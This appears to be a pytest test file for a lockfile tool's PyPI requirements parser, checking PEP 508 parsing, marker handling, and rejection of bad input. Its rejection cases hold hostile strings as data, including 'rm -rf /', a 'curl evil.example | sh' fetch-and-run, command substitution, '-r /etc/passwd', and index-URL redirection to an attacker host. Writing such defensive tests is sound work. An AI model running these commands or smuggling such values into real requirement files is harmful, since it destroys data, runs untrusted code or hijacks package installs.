"""The user's PyPI requirements (envsolver.lock.pypi.requirements): PEP 508 held to its grammar, markers evaluated
for the target, nothing the user wrote in a marker reaching uv, direct references refused."""

from __future__ import annotations

import pytest

from envsolver.core.errors import BadInputError
from envsolver.core.versions import MajorMinor
from envsolver.lock.pypi import requirements
from envsolver.lock.pypi.target import Target

TARGET = Target(MajorMinor(3, 12), "linux-64", MajorMinor(2, 28))


def test_requirements_reach_uv_reserialized_without_markers() -> None:
    kept, left = requirements.parse(
        ["Accelerate >= 1.0", "peft[test]==0.17.0", 'rich; sys_platform == "linux"', 'pywin32; os_name == "nt"'],
        TARGET,
    )
    assert [r.line for r in kept] == ["Accelerate>=1.0", "peft[test]==0.17.0", "rich"], kept
    assert [r.name for r in kept] == ["accelerate", "peft", "rich"], kept
    assert left == ('pywin32; os_name == "nt"',), left


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("accelerate; rm -rf /", "is not a PEP 508 requirement"),
        ("accelerate>=1.0 && curl evil.example | sh", "is not a PEP 508 requirement"),
        ("accelerate$(id)", "is not a PEP 508 requirement"),
        ("`id`", "is not a PEP 508 requirement"),
        ("-r /etc/passwd", "is not a PEP 508 requirement"),
        ("--index-url https://evil.example/simple", "is not a PEP 508 requirement"),
        ("accelerate\n--index-url https://evil.example", "control character or a line break"),
        ("accelerate\x1b[2J", "control character"),
        ("accelerate @ https://evil.example/accelerate-1.0-py3-none-any.whl", "direct reference"),
        ("accelerate @ file:///tmp/accelerate", "direct reference"),
        ("accelerate @ git+https://github.com/huggingface/accelerate", "direct reference"),
        ("a" * 1001, "longer than"),
    ],
)
def test_a_requirement_that_is_not_pep_508_or_a_direct_reference_is_refused(text: str, why: str) -> None:
    with pytest.raises(BadInputError) as caught:
        requirements.parse([text], TARGET)
    assert why in str(caught.value), str(caught.value)
    assert "\x1b" not in str(caught.value), "the refusal shows the text printable"


def test_a_marker_string_never_reaches_uv() -> None:
    kept, _ = requirements.parse(['rich; platform_release != " #--index-url http://evil"'], TARGET)
    assert [r.line for r in kept] == ["rich"], kept
